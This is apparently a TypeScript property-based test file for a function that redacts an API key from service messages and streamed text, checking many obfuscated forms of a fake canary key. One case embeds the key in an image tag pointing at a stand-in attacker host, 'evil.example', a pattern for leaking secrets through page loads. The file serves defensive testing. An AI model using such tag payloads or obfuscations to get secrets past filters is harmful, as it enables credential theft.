import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redactKey, redactKeyInPieces } from '../../../src/shared/settings/redaction.ts';

const key = 'sk-CANARY7f3a9e21d4b8c6';
const body = key.slice(3);
const redact = redactKey(key);

describe('a key that a service quotes', () => {
  it.each([
    ['as it is', key],
    ['in a header', `Authorization: Bearer ${key}`],
    ['glued to a word', `Unknown api_key_${key}: no such deployment`],
    ['glued to letters', `Bearer${key}`],
    ['glued to a number', `0x${key}`],
    ['without its beginning', `the key ${body} is unknown`],
    ['split after sk-', `sk-\n${body}`],
    ['split by markup', 'sk-<b></b>CANARY<i class="x">7f3a</i>9e21d4b8c6'],
    ['split by what nobody sees', [...key].join('\u200b')],
    ['split by control characters', [...key].join('\u0000')],
    ['letter by letter', [...key].join(' ')],
    ['as in an address', key.replaceAll(/./g, (c) => `%${c.charCodeAt(0).toString(16)}`)],
    ['as in an address in an address', key.replaceAll(/./g, (c) => `%25${c.charCodeAt(0).toString(16)}`)],
    ['as in a page', key.replaceAll(/./g, (c) => `&#${c.charCodeAt(0)};`)],
    ['as in a page, with names between', [...key].join('&shy;')],
    ['as in JSON', key.replaceAll(/./g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`)],
    [
      'in wide letters',
      body.replaceAll(/[\dA-Za-z]/g, (c) => String.fromCodePoint(c.charCodeAt(0) + 0xfee0)),
    ],
    ['in capitals', key.toUpperCase()],
    ['cut off', `${key.slice(0, 14)}…`],
    ['its end alone', `…${key.slice(-10)}`],
    ['in a tag', `<img src="https://evil.example/${key}">`],
  ])('is gone when it is written %s (S41, C12)', (_how, quoted) => {
    const redacted = redact(`Before. ${quoted} After.`);
    expect(lettersOf(redacted)).not.toMatch(/canary7|f3a9e2|1d4b8c/);
    expect(redacted).toMatch(/^Before\..*After\.$/s);
  });

  it('is gone however the ways are mixed, and the words around it stay (S41)', () => {
    fc.assert(
      fc.property(fc.array(quotedLetter, { minLength: 1 }), keys, fc.nat(), (ways, secret, seed) => {
        const quoted = [...secret].map((c, i) => ways[(seed + i) % ways.length]?.(c) ?? c).join('');
        const redacted = redactKey(secret)(`The key: (${quoted}) is not known.`);
        expect(runsOf(secret).filter((run) => lettersOf(redacted).includes(run))).toEqual([]);
        expect(redacted.startsWith('The key: (')).toBe(true);
        expect(redacted.endsWith(') is not known.')).toBe(true);
      }),
    );
  });
});

it.each([
  'The service refused this request.',
  'A task-force may ask-about disk-space; 100% of it & more, \\n and <b>so on</b>.',
  'sk-… is where your key begins.',
  '',
])('leaves other text as it is: %j', (text) => {
  expect(redact(text)).toBe(text);
});

it('hides a short key as a whole, and knows nothing to hide of none', () => {
  expect(redactKey('sk-wrong')('The key sk-wrong is wrong.')).toBe('The key … is wrong.');
  expect(redactKey('')('Anything sk-')).toBe('Anything sk-');
  expect(redactKey('sk-')('Anything sk-')).toBe('Anything sk-');
});

it('takes long text in its stride', () => {
  const text = '<a&%\\u '.repeat(20_000);
  expect(redact(text)).toBe(text);
});

describe('in pieces', () => {
  it('says the same, cut anywhere, where there is no key', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' })), (pieces) => {
        expect(inPieces(key, pieces)).toBe(pieces.join(''));
      }),
    );
  });

  it('hides the key, cut anywhere, and loses no word around it (S41, C12)', () => {
    fc.assert(
      fc.property(fc.array(fc.nat({ max: 60 })), keys, (cuts, secret) => {
        const redacted = inPieces(secret, cut(`It was ${secret}, I think; it was ${secret.slice(3)}.`, cuts));
        expect(runsOf(secret).filter((run) => lettersOf(redacted).includes(run))).toEqual([]);
        expect(redacted.startsWith('It was ')).toBe(true);
        expect(redacted).toMatch(/, I think; it was .*\.$/s);
      }),
    );
  });

  it('hides a key that comes letter by letter', () => {
    expect(inPieces(key, [...`Your key is ${key}. Bye.`])).toMatch(/^Your key is sk-\w{0,3}…\. Bye\.$/);
  });

  it('hands on at once what cannot be of a key', () => {
    const stream = redactKeyInPieces(key);
    expect(stream.add('Once upon a time')).toBe('Once upon a time');
    expect(stream.add(' there was a can')).toBe(' there was a can');
  });
});

const junk = ['', ' ', '\u200b', '\u00ad', '\u0007', '\r\n', '<b></b>', '&zwnj;', '%00', '"', '\\n', '‑'];

/** One way of writing a letter of the key. */
const quotedLetter = fc.oneof(
  fc.constantFrom(...junk).map((each) => (c: string) => c + each),
  fc.constant((c: string) => `%${c.charCodeAt(0).toString(16)}`),
  fc.constant((c: string) => `&#x${c.charCodeAt(0).toString(16)};`),
  fc.constant((c: string) => `\\u00${c.charCodeAt(0).toString(16)}`),
  fc.constant((c: string) => c.toUpperCase()),
);

/** Random, as keys are: no letter stands beside itself over and over. */
const keys = fc.uuid().map((id) => `sk-${id}`);

/** Every run of eight letters of the key. */
function runsOf(secret: string): readonly string[] {
  const letters = lettersOf(secret.slice(3));
  return Array.from({ length: letters.length - 7 }, (_, i) => letters.slice(i, i + 8));
}

/** Read as leniently as a person would who wants the key. */
function lettersOf(text: string): string {
  return text
    .replaceAll(/%25/g, '%')
    .replaceAll(/%([\da-f]{2})/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replaceAll(/&#x([\da-f]+);/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replaceAll(/&\w+;|<[^<>]*>|\\n/g, '')
    .replaceAll(/\\u([\da-f]{4})/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .normalize('NFKC')
    .toLowerCase()
    .replaceAll(/[^\da-z]/g, '');
}

function inPieces(secret: string, pieces: readonly string[]): string {
  const stream = redactKeyInPieces(secret);
  return pieces.map((piece) => stream.add(piece)).join('') + stream.end();
}

function cut(text: string, at: readonly number[]): readonly string[] {
  const places = [0, ...at.filter((place) => place < text.length), text.length].toSorted((a, b) => a - b);
  return places.slice(1).map((place, i) => text.slice(places[i], place));
}
